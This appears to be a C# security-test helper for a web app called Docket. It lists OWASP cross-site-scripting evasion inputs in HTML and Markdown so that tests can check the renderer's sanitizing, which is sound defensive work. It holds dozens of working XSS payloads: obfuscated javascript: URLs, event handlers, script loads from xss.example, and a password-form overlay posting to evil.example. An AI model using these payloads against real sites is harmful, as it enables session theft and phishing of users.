namespace Docket.Web.Tests.Security;

/// <summary>
/// OWASP XSS filter-evasion inputs (cheat sheet, written out here), as Markdown a user could put in
/// notes, titles, names and topics. Each row says what trick it tries.
/// </summary>
internal static class XssVectors
{
    public static readonly IReadOnlyList<(string Name, string Input)> All =
    [
        // The plain script tag, and the spellings filters miss.
        ("script", "<script>alert('XSS')</script>"),
        ("script upper case", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
        ("script mixed case no quotes", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
        ("script with junk attribute", "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>"),
        ("script extra open bracket", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>"),
        ("script no closing tag", "<SCRIPT SRC=https://xss.example/xss.js?< B >"),
        ("script half open", "<SCRIPT SRC=//xss.example/.j>"),
        ("script closed title first", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>"),
        ("script in textarea escape", "</textarea><script>alert(1)</script>"),
        ("script split by null", "<scr\0ipt>alert(1)</scr\0ipt>"),
        // Event handlers, with the separators parsers accept.
        ("img onerror", "<img src=x onerror=alert(1)>"),
        ("img onerror slash separator", "<img/src=x/onerror=alert(1)>"),
        ("body onload", "<BODY ONLOAD=alert('XSS')>"),
        ("malformed a onmouseover", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>"),
        ("img onmouseover no quotes", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
        ("details ontoggle", "<details open ontoggle=alert(1)>"),
        ("input autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
        // Script schemes in HTML links and images, obfuscated.
        ("img javascript src", "<IMG SRC=\"javascript:alert('XSS');\">"),
        ("img javascript entity decimal", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
        ("img javascript entity hex no semicolons", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"),
        ("img javascript embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
        ("img javascript embedded newline entity", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
        ("img vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
        ("a data text/html", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
        // Markdown's own links and images with those schemes: DisableHtml does not stop these.
        ("md link javascript", "[click](javascript:alert(1))"),
        ("md link javascript upper", "[click](JAVASCRIPT:alert(1))"),
        ("md link javascript entity", "[click](&#106;avascript:alert(1))"),
        ("md link javascript percent colon", "[click](javascript&#58;alert(1))"),
        ("md link javascript leading space in angle", "[click](< javascript:alert(1)>)"),
        ("md link vbscript", "[click](vbscript:msgbox(1))"),
        ("md link data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("md image javascript", "![x](javascript:alert(1))"),
        ("md image data svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        ("md reference javascript", "[click][r]\n\n[r]: javascript:alert(1)"),
        ("md autolink javascript", "<javascript:alert(1)>"),
        ("md protocol-relative link", "[click](//evil.example/x)"),
        ("md link title breakout", "[a](https://ok.example \"x\" onmouseover=\"alert(1))"),
        ("md heading generic attributes", "# Heading {onclick=\"alert(1)\" style=\"position:fixed\"}"),
        // Other elements that run or load things.
        ("svg onload", "<svg onload=alert(1)>"),
        ("svg script", "<svg><script>alert(1)</script></svg>"),
        ("iframe javascript", "<iframe src=\"javascript:alert('XSS');\"></iframe>"),
        ("object data", "<object type=\"text/x-scriptlet\" data=\"https://xss.example/scriptlet.html\"></object>"),
        ("embed", "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">"),
        ("style expression", "<div style=\"width: expression(alert('XSS'));\">x</div>"),
        ("style tag import", "<STYLE>@import'https://xss.example/xss.css';</STYLE>"),
        ("meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
        ("form overlay", "<form action=\"https://evil.example\"><input type=password name=p><button>go</button></form>"),
        ("base href", "<BASE HREF=\"javascript:alert('XSS');//\">"),
        ("broken tag quote", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>"),
        ("comment conditional", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
        ("code span with script", "`<script>alert(1)</script>` and <b onclick=alert(1)>bold</b>"),
        ("table cell handler", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"),
    ];

    public static TheoryData<string> Names()
    {
        var data = new TheoryData<string>();
        foreach (var (name, _) in All)
        {
            data.Add(name);
        }

        return data;
    }

    public static string Input(string name) => All.Single(v => v.Name == name).Input;
}
